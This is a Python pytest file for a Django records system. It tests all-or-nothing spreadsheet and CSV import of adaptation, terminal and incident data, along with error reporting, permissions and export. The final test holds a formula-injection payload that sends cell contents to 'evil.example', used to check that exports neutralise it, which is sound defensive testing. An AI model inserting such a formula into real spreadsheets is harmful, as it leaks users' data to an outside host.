"""Spreadsheet import: every row validated first; any bad row means nothing is imported."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from policyhub.audit.models import AuditEntry
from policyhub.centres.adaptation.models import Adaptation
from policyhub.centres.adaptation.records import ADAPTATIONS
from policyhub.centres.common import ImportFailed, export_table, import_table
from policyhub.centres.emergency.models import Notification
from policyhub.centres.emergency.records import INCIDENTS, NOTIFICATIONS
from policyhub.centres.migration.models import TerminalReplacement
from policyhub.centres.migration.records import TERMINALS
from policyhub.registry.reader import read_table
from policyhub.registry.services import Refused
from tests.centres.helpers import adaptation, client_for, csv_bytes, staff, xlsx_bytes
from tests.registry.test_reader import hostile_xlsx

pytestmark = pytest.mark.django_db

HEADER = ["产品名称", "厂商", "产品版本", "产品类别", "CPU（飞腾型号）", "操作系统（麒麟版本）",
          "测试结果", "适配证书编号", "适配日期"]
GOOD = ["星盾防火墙", "长沙星盾", "2.0", "安全软件/产品", "FT-2000+/64",
        "银河麒麟高级服务器操作系统 V10", "通过", "PK-9", "2020-05-01"]


def test_a_good_file_imports_every_row_labels_or_codes() -> None:
    rows = [HEADER, GOOD,
            ["湘安OA", "长沙湘安", "1.1", "application", "D2000", "kylin-v10-desktop",
             "failed", "", "2020/5/2"]]
    assert import_table(ADAPTATIONS, xlsx_bytes(rows), "a.xlsx", actor=staff("miit")) == 2
    assert Adaptation.objects.get(product="星盾防火墙").os == "kylin-v10-server"
    assert AuditEntry.objects.filter(action="centres_adaptation.adaptation.create").count() == 2


def test_a_bad_file_reports_every_bad_row_and_imports_nothing() -> None:
    rows = [HEADER, GOOD,
            ["A", "V", "1", "应用软件", "i7-8700", "kylin-v10-desktop", "通过", "C", "2020-01-01"],
            ["B", "V", "1", "应用软件", "D2000", "kylin-v10-desktop", "通过", "", "2020-01-01"],
            ["C", "V", "1", "应用软件", "D2000", "kylin-v10-desktop", "通过", "C2", "not a day"],
            ["", "V", "1", "应用软件", "D2000", "kylin-v10-desktop", "通过", "C3", "2020-01-01"]]
    with pytest.raises(ImportFailed) as exc:
        import_table(ADAPTATIONS, xlsx_bytes(rows), "bad.xlsx", actor=staff("miit"))
    by_row = {(e.row, e.column) for e in exc.value.errors}
    assert {(3, "CPU（飞腾型号）"), (4, "适配证书编号"), (5, "适配日期"), (6, "产品名称")} <= by_row
    assert exc.value.bad_rows == 4
    assert not Adaptation.objects.exists()
    refusal = AuditEntry.objects.get(action="centres_adaptation.adaptation.import")
    assert refusal.allowed is False


def test_unknown_and_missing_columns_are_reported_on_row_1() -> None:
    with pytest.raises(ImportFailed) as exc:
        import_table(ADAPTATIONS, csv_bytes([["产品名称", "颜色"], ["x", "red"]]), "a.csv",
                     actor=None)
    reasons = {e.column: e.reason for e in exc.value.errors}
    assert all(e.row == 1 for e in exc.value.errors)
    assert "颜色" in reasons and "厂商" in reasons


def test_a_duplicate_of_an_existing_record_is_a_row_error() -> None:
    adaptation("星盾防火墙", vendor="长沙星盾", version="2.0", cpu="FT-2000+/64",
               os="kylin-v10-server")
    with pytest.raises(ImportFailed) as exc:
        import_table(ADAPTATIONS, csv_bytes([HEADER, GOOD]), "dup.csv", actor=None)
    assert exc.value.errors[0].row == 2
    assert Adaptation.objects.count() == 1


def test_a_duplicate_within_the_file_rolls_everything_back() -> None:
    rows = [["单位", "统计日期", "党政办公终端总数（台）", "已更新终端数（台）"],
            ["data", "2021-06-30", "100", "90"], ["市数据资源局", "2021-06-30", "100", "95"]]
    with pytest.raises(ImportFailed) as exc:
        import_table(TERMINALS, csv_bytes(rows), "t.csv", actor=None)
    assert exc.value.errors[0].row == 3
    assert not TerminalReplacement.objects.exists()


def test_foreign_keys_are_found_by_their_natural_keys() -> None:
    import_table(INCIDENTS, csv_bytes([["事件编号", "事件名称", "事件类别", "事件级别", "接报时间"],
                                       ["E-1", "钓鱼邮件", "网络攻击事件", "一般事件（Ⅳ级）",
                                        "2021-03-01 08:30"]]), "i.csv", actor=None)
    rows = [["事件编号", "通报单位", "通报时间"], ["E-1", "市公安局", "2021-03-01 08:45"],
            ["E-2", "police", "2021-03-01 08:45"]]
    with pytest.raises(ImportFailed) as exc:
        import_table(NOTIFICATIONS, csv_bytes(rows), "n.csv", actor=None)
    assert [(e.row, e.column) for e in exc.value.errors] == [(3, "事件编号")]
    import_table(NOTIFICATIONS, csv_bytes(rows[:2]), "n.csv", actor=None)
    assert Notification.objects.get().unit.code == "police"


def test_an_import_by_someone_who_may_not_create_is_refused() -> None:
    with pytest.raises(Refused):
        import_table(ADAPTATIONS, csv_bytes([HEADER, GOOD]), "a.csv", actor=staff("finance"))


def test_export_reads_back_as_an_import() -> None:
    adaptation("A")
    table = read_table(export_table(ADAPTATIONS, Adaptation.objects.all()), "x.xlsx",
                       width=len(ADAPTATIONS.columns))
    Adaptation.objects.all().delete()
    rows = [table.header, *(r for _, r in table.rows)]
    assert import_table(ADAPTATIONS, xlsx_bytes(rows), "x.xlsx", actor=None) == 1


def test_the_import_page_starts_a_job_whose_page_lists_the_errors() -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = client_for(staff("hitech"))
    bad = SimpleUploadedFile("bad.csv", csv_bytes([HEADER, ["x"] * 9]))
    response = client.post(reverse("centres_adaptation:adaptations-import"), {"file": bad},
                           follow=True)
    assert response.redirect_chain[0][0].startswith("/imports/")
    assert response.status_code == 200
    assert "1 行有误，未导入任何数据" in response.content.decode()
    assert not Adaptation.objects.exists()


@pytest.mark.parametrize(("name", "content"), [
    ("x.xlsx", b"not a zip"), ("x.csv", "name,Müller\nÄrger,Öl\n".encode("latin-1")),
    ("x.csv", b"a,b\n" + b"x" * 140_000 + b",1\n"), ("h.xlsx", hostile_xlsx())])
def test_the_import_page_names_a_bad_file_never_a_500(name: str, content: bytes) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = client_for(staff("hitech"))
    upload = SimpleUploadedFile(name, content)
    response = client.post(reverse("centres_adaptation:adaptations-import"), {"file": upload},
                           follow=True)
    assert response.status_code == 200
    assert "文件无法导入，未导入任何数据" in response.content.decode()
    assert not Adaptation.objects.exists()


def test_the_command_imports_a_file(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(csv_bytes([HEADER, GOOD]))
    out = io.StringIO()
    call_command("import_centre", "adaptation.adaptations", str(path), "--no-progress",
                 stdout=out)
    assert "导入 1 行" in out.getvalue() and Adaptation.objects.count() == 1


def test_the_command_lists_bad_rows_and_fails(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(csv_bytes([HEADER, ["x"] * 9]))
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_centre", "adaptation.adaptations", str(path), "--no-progress",
                     stderr=err)
    assert "第2行" in err.getvalue() and not Adaptation.objects.exists()


def test_export_quotes_text_a_spreadsheet_would_run_and_reads_back() -> None:
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    adaptation(evil)
    data = export_table(ADAPTATIONS, Adaptation.objects.all())
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=1)
    assert cell.value == "'" + evil and cell.data_type == "s"
